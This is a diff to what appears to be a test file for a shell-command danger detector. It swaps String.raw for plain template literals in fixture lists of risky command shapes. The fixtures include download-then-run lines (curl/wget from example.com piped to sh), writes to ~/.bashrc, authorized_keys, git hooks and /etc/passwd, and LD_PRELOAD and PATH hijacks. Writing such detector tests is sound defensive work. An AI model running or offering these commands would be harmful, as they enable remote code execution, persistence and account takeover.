@@ -49,7 +49,7 @@ op run -- ${DANGER}
   ],
   [
     "other places",
-    String.raw`
+    `
 ssh host ${DANGER}
 ssh host '${DANGER}'
 ssh -o ProxyCommand='${DANGER}' host ls
@@ -63,7 +63,7 @@ kubectl -n x exec -it pod -c c -- sh -c '${DANGER}'
   ],
   [
     "shells and interpreters",
-    String.raw`
+    `
 bash -c '${DANGER}'
 bash -lc "${DANGER}"
 bash -c "bash -c '${DANGER}'"
@@ -158,7 +158,7 @@ while read c; do $c; done < f
   ],
   [
     "settings and aliases",
-    String.raw`
+    `
 PATH=/tmp/x:$PATH ls
 export PATH=/tmp:$PATH; ls
 LD_PRELOAD=/tmp/x.so ls
@@ -174,7 +174,7 @@ trap '${DANGER}' EXIT
   ],
   [
     "every place of the grammar",
-    String.raw`
+    `
 ls && ${DANGER}
 ls || ${DANGER}
 ls; ${DANGER}
@@ -214,7 +214,7 @@ coproc ${DANGER}
   ],
   [
     "written, then run",
-    String.raw`
+    `
 curl -o x.sh http://example.com/x && bash x.sh
 curl -O http://example.com/i.sh; sh i.sh
 wget http://example.com/i.sh; chmod +x i.sh; ./i.sh
@@ -224,7 +224,7 @@ tee x.sh <<< 'ls'; sh ./x.sh
   ],
   [
     "files that others obey",
-    String.raw`
+    `
 echo x >> ~/.bashrc
 echo x > "$HOME/.ssh/authorized_keys"
 echo x > .git/hooks/pre-commit
@@ -236,7 +236,7 @@ tee /etc/passwd
   ],
   [
     "other shells",
-    String.raw`
+    `
 pwsh -c ls
 powershell -Command ls
 cmd.exe /c dir
